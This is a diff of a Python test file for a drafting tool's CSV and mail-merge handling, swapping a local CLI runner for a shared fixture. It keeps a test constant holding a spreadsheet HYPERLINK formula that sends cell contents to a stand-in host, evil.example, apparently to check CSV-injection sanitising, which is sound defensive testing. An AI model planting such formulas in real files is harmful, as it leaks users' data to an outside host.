@@ -10,23 +10,19 @@ import docx
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
-from typer.testing import CliRunner
 
-from drafting.cli import app
 from drafting.kinds import KINDS
 from drafting.merge import column_choices, column_paths
 from evidence.csvio import MAX_CELL, read_table, safe_cell, to_csv
 from evidence.errors import CsvError, UserError
-from tests.conftest import REPO
+from tests.conftest import REPO, drafting
 
-runner = CliRunner()
 LETTER = REPO / "drafts" / "letter-to-childrens-commissioner.yaml"
 MOTION = REPO / "drafts" / "motion-childrens-commissioner-programme.yaml"
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
 
 
-def cli(*args: object, dossier: Path = REPO):
-    return runner.invoke(app, ["--dossier", str(dossier), *map(str, args)])
+cli = drafting
 
 
 def merge(tmp_path: Path, content: str | bytes, draft: Path = LETTER):
